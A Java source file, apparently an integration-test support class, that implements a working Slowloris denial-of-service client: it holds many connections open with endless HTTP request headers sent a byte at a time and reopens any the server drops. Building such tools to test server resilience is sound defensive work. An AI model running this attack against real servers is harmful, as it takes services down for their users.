package io.heaptap.it.support;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicLong;

/**
 * A slowloris attacker without the token: {@code n} connections, each sending a request head that never
 * ends, a byte every 100 ms, and each reopened on the next round once the server has dropped it. One
 * thread, non-blocking sockets.
 */
public final class Slowloris implements AutoCloseable {
    private static final long ROUND_MILLIS = 100;

    private final InetSocketAddress server;
    private final SocketChannel[] connections;
    private final AtomicLong opened = new AtomicLong();
    private final Thread thread;
    private volatile boolean stopped;

    private Slowloris(InetSocketAddress server, int n) {
        this.server = server;
        this.connections = new SocketChannel[n];
        this.thread = new Thread(this::run, "slowloris");
        thread.setDaemon(true);
    }

    public static Slowloris start(InetSocketAddress server, int n) {
        Slowloris s = new Slowloris(server, n);
        s.thread.start();
        return s;
    }

    /** Connections opened so far, reopened ones included. */
    public long opened() {
        return opened.get();
    }

    private void run() {
        ByteBuffer sink = ByteBuffer.allocate(4096);
        while (!stopped) {
            for (int i = 0; i < connections.length; i++) {
                SocketChannel c = connections[i];
                try {
                    if (c == null) {
                        c = SocketChannel.open(server);
                        c.configureBlocking(false);
                        c.write(ByteBuffer.wrap(("GET /api/status HTTP/1.1\r\nHost: " + server.getHostString() + "\r\nX-Slow: ")
                                .getBytes(StandardCharsets.US_ASCII)));
                        connections[i] = c;
                        opened.incrementAndGet();
                        continue;
                    }
                    sink.clear();
                    if (c.read(sink) < 0) {
                        drop(i);
                        continue;
                    }
                    c.write(ByteBuffer.wrap(new byte[] {'a'}));
                } catch (IOException e) {
                    drop(i);
                }
            }
            try {
                Thread.sleep(ROUND_MILLIS);  // the attacker's pace
            } catch (InterruptedException e) {
                return;
            }
        }
    }

    private void drop(int i) {
        try {
            if (connections[i] != null) {
                connections[i].close();
            }
        } catch (IOException ignored) {
            // gone either way
        }
        connections[i] = null;
    }

    @Override
    public void close() throws InterruptedException {
        stopped = true;
        thread.interrupt();
        thread.join(10_000);
        for (int i = 0; i < connections.length; i++) {
            drop(i);
        }
    }
}
